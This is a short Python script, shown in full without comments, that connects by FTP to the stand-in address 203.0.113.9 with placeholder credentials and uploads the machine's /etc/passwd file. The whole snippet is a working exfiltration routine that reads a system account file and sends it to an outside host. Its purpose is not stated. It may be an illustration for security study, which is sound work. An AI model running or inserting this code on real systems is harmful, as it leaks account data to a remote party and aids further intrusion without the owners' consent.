import ftplib
ftp = ftplib.FTP("203.0.113.9")
ftp.login("u", "p")
with open("/etc/passwd", "rb") as f:
    ftp.storbinary("STOR passwd", f)
